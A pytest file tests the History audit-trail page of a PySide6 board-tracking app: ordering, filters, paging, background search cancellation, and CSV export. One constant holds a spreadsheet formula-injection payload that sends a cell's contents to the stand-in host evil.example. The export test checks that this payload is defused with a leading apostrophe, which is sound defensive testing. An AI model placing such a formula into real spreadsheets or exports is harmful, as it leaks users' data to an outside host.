"""The History page: the audit trail newest first, filters, paging model, Show in register, CSV export."""
from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QMainWindow
from sqlmodel import select

from boardapp.db.models import Action, AuditEntry
from boardapp.ui.pages.history.models import HistoryTableModel
from boardapp.ui.pages.history.page import HistoryPage

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
BASE = datetime(2030, 1, 1, 12, 0, tzinfo=UTC)  # newer than anything in the demo: these come first


def _seed(ctx: Any, extra: int = 0) -> Action:
    """Audit entries on a real demo action: one hostile old value, one by another person, ``extra`` more."""
    with ctx.session() as session:
        action = session.exec(select(Action).order_by(Action.ref)).first()  # type: ignore[arg-type]
        assert action is not None
        session.add(AuditEntry(at=BASE, who="Mallory Test", entity="action", entity_id=action.id,
                               field="success_measure", old=HOSTILE, new="Assessments within 45 days: 83%"))
        session.add(AuditEntry(at=BASE - timedelta(minutes=1), who="Dana Chair", entity="action",
                               entity_id=action.id, field="brag", old="Amber", new="Red"))
        for n in range(extra):
            session.add(AuditEntry(at=BASE - timedelta(minutes=2), who="Bulk Import", entity="action",
                                   entity_id=action.id, field="progress", old=str(n), new=str(n + 1)))
        session.commit()
        session.refresh(action)
        session.expunge(action)
        return action


@pytest.fixture
def page(qtbot: Any, actions_ctx: Any) -> Iterator[Any]:
    _seed(actions_ctx)
    window = QMainWindow()
    qtbot.addWidget(window)
    history = HistoryPage(actions_ctx)
    window.setCentralWidget(history)
    window.resize(1366, 768)
    window.show()
    qtbot.waitExposed(window)
    yield history
    window.close()


def shown(page: Any) -> list[tuple[str, str, str, str]]:
    m = page.model
    return [tuple(m.index(r, c).data() for c in (1, 3, 4, 5)) for r in range(m.rowCount())]  # type: ignore[misc]


def test_newest_first_with_ref_and_title_and_table_focused(page: Any) -> None:
    first = page.model.index(0, 2).data()
    assert page.model.index(0, 1).data() == "Mallory Test"
    assert first.startswith("Action ") and page.model.row_at(0).ref in first
    assert shown(page)[1] == ("Dana Chair", "BRAG", "Amber", "Red")
    assert page.table.hasFocus()
    assert page.table.currentIndex().row() == 0


def test_filter_by_person_and_text(page: Any, qtbot: Any) -> None:
    page.person_combo.setCurrentIndex(page.person_combo.findText("Dana Chair"))
    assert shown(page) == [("Dana Chair", "BRAG", "Amber", "Red")]
    assert page.count_label.text() == "1 change match the filter"
    page.person_combo.setCurrentIndex(0)
    qtbot.keyClicks(page.search, "45 days")
    qtbot.waitUntil(lambda: page.model.rowCount() == 1)
    assert shown(page)[0][0] == "Mallory Test"
    page.search.setText("no such words anywhere")
    qtbot.waitUntil(lambda: page.switch.is_empty())
    assert page.empty.findChildren(type(page.count_label))  # the empty state says what to do


def test_model_pages_as_it_scrolls(qtmodeltester: Any, actions_ctx: Any) -> None:
    _seed(actions_ctx, extra=450)
    from boardapp.services.history import HistoryFilter, count_entries, history_page

    def fetch(cursor: Any) -> Any:
        with actions_ctx.session() as session:
            return history_page(HistoryFilter(who="Bulk Import"), session=session, after=cursor)

    model = HistoryTableModel()
    model.reset(fetch)
    assert model.rowCount() == 200 and model.canFetchMore()
    qtmodeltester.check(model)
    while model.canFetchMore():
        model.fetchMore()
    with actions_ctx.session() as session:
        assert model.rowCount() == 450 == count_entries(HistoryFilter(who="Bulk Import"), session=session)
    assert len({model.row_at(r).id for r in range(450)}) == 450


def test_show_in_register_selects_the_action(main_window: Any, qtbot: Any) -> None:
    action = _seed(main_window.ctx)
    main_window.show_page("History")
    history = main_window.pages["History"]
    history.refresh()
    history.table.selectRow(0)
    assert history.register_button.isEnabled()
    qtbot.mouseClick(history.register_button, Qt.MouseButton.LeftButton)
    assert main_window.current_page_name() == "Actions"
    actions = main_window.pages["Actions"]
    assert [row.id for row in actions.selected_rows()] == [action.id]


def test_export_csv_neutralises_formulas(page: Any, qtbot: Any, dialogs: Any, tmp_path: Path) -> None:
    target = tmp_path / "history.csv"
    dialogs.answer("save_file", target)
    page.person_combo.setCurrentIndex(page.person_combo.findText("Mallory Test"))
    page.export_button.click()
    qtbot.waitUntil(lambda: "Exported" in page.export_label.text())
    with target.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["When (UTC)", "Who", "Kind", "Ref", "Title", "Field", "Old", "New"]
    assert len(rows) == 2
    assert rows[1][1] == "Mallory Test" and rows[1][5] == "success_measure"
    assert rows[1][6] == "'" + HOSTILE  # shown as text by a spreadsheet, never run
    assert rows[1][7] == "Assessments within 45 days: 83%"
    assert page.export_label.text() == "Exported 1 change to history.csv"


def test_a_text_search_runs_off_the_ui_thread_and_the_newest_search_wins(
        page: Any, qtbot: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    import threading

    from boardapp.ui.pages.history import search as search_module

    release = threading.Event()
    real_page = search_module.history_page
    threads: list[str] = []

    def slow_page(flt: Any, **kwargs: Any) -> Any:
        threads.append(threading.current_thread().name)
        if flt.text == "Assessments":
            release.wait(10)  # the first search is stuck in a long scan
        return real_page(flt, **kwargs)

    monkeypatch.setattr(search_module, "history_page", slow_page)
    page.search.setText("Assessments")
    page.apply_filter()  # returns at once: the scan is on a worker
    assert page.count_label.text() == "Searching…"
    assert threading.main_thread().name not in threads
    page.search.setText("Dana Chair")  # the user types on before the first search ends
    page.apply_filter()
    release.set()
    qtbot.waitUntil(lambda: page.count_label.text() == "1 change match the filter")
    page.searcher.wait()
    qtbot.wait(50)  # any late delivery of the first search would land now
    assert shown(page) == [("Dana Chair", "BRAG", "Amber", "Red")]  # never the first search's row
    assert page.count_label.text() == "1 change match the filter"


def test_a_text_search_pages_in_the_background_as_the_table_scrolls(qtbot: Any, actions_ctx: Any) -> None:
    _seed(actions_ctx, extra=450)
    history = HistoryPage(actions_ctx)
    qtbot.addWidget(history)
    history.refresh()
    history.search.setText("Bulk")
    history.apply_filter()
    qtbot.waitUntil(lambda: history.count_label.text() == "450 changes match the filter")
    assert history.model.rowCount() == 200
    while history.model.rowCount() < 450:
        if history.model.canFetchMore():
            history.model.fetchMore()  # what the view does at the end of the scroll
            assert history.model.fetching
        qtbot.waitUntil(lambda: not history.model.fetching)
    assert not history.model.canFetchMore()
    assert len({history.model.row_at(r).id for r in range(450)}) == 450


def test_a_cancelled_search_stops_inside_sqlite(actions_ctx: Any) -> None:
    from sqlalchemy import text

    from boardapp.ui.common.tasks import TaskCancelled
    from boardapp.ui.pages.history.search import interruptible_session

    class Control:
        calls = 0

        def is_cancelled(self) -> bool:
            Control.calls += 1
            return Control.calls > 3  # cancelled shortly after the scan started

    endless = text("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n")
    with pytest.raises(TaskCancelled):
        with interruptible_session(actions_ctx.engine, Control()) as session:  # type: ignore[arg-type]
            session.connection().execute(endless).scalar_one()


def test_values_read_as_words_not_codes(page: Any, qtbot: Any, actions_ctx: Any) -> None:
    with actions_ctx.session() as session:
        session.add(AuditEntry(at=BASE + timedelta(minutes=5), who="Ann Editor", entity="action", entity_id=1,
                               field="status", old="NOT_STARTED", new="ON_HOLD"))
        session.commit()
    page.refresh()
    assert shown(page)[0] == ("Ann Editor", "status", "Not started", "On hold")
    page.person_combo.setCurrentIndex(page.person_combo.findText("Ann Editor"))
    page.search.setText("on hold")  # the words shown find the stored code ON_HOLD
    page.apply_filter()
    qtbot.waitUntil(lambda: page.count_label.text() == "1 change match the filter")
    assert shown(page) == [("Ann Editor", "status", "Not started", "On hold")]
